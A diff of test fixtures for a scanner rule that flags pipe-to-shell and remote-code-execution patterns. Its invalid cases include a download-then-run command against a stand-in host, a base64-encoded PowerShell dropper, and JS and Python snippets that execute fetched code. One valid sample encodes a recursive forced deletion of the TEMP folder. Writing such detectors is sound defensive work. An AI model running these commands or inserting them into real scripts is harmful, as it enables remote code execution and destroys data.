@@ -3,6 +3,8 @@ import { ruleTester } from '../../rule-tester.js';
 
 ruleTester('injection.pipe-to-shell', {
   valid: [
+    { text: 'curl -fsSL "$BASE/yt-dlp" -o "$BIN"\ncurl -fsSL "$BASE/SHA2-256SUMS" | grep yt-dlp | sha256sum -c -\nchmod +x "$BIN"', kind: 'shell', name: 'checksum verified before it is made executable' },
+    { text: 'curl -s -O https://x.example.net/data.csv && wc -l data.csv', kind: 'shell', name: 'remote-name download that is only read' },
     { text: 'powershell -NoProfile -EncodedCommand RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQAgACQAZQBuAHYAOgBUAEUATQBQACAAfAAgAFIAZQBtAG8AdgBlAC0ASQB0AGUAbQAgAC0AUgBlAGMAdQByAHMAZQAgAC0ARgBvAHIAYwBlAA==', kind: 'shell', name: 'encoded command without a download' },
     { text: 'const r = await fetch(url);\nconst total = eval_sum(await r.json());', kind: 'code-js', name: 'fetch then a function merely named eval_…' },
     { text: '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"', kind: 'shell', name: 'Homebrew installer through bash -c' },
@@ -20,6 +22,7 @@ ruleTester('injection.pipe-to-shell', {
     { text: '| pipe_to_shell | curl <url> | bash |', kind: 'markdown', name: 'pattern table row' },
   ],
   invalid: [
+    { text: 'cd /tmp && curl -s -O https://x.example.net/u && sh ./u', kind: 'shell', name: 'remote-name download then run', errors: [{ line: 1, column: 12 }] },
     { text: 'powershell -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALgBuAGUAdAAvAGEAJwApAA==', kind: 'shell', name: 'encoded PowerShell dropper (UTF-16LE base64)', errors: [{ line: 1, column: 1 }] },
     { text: "https.get('https://x.example.net/p.js', (res) => {\n  let src = '';\n  res.on('data', (d) => (src += d));\n  res.on('end', () => vm.runInThisContext(src));\n});", kind: 'code-js', name: 'response body run with vm', errors: [{ line: 1, column: 1 }] },
     { text: 'code = requests.get(URL, timeout=5).text\nexec(compile(code, "tips", "exec"))', kind: 'code-py', name: 'response text compiled and run', errors: [{ line: 1, column: 8 }] },
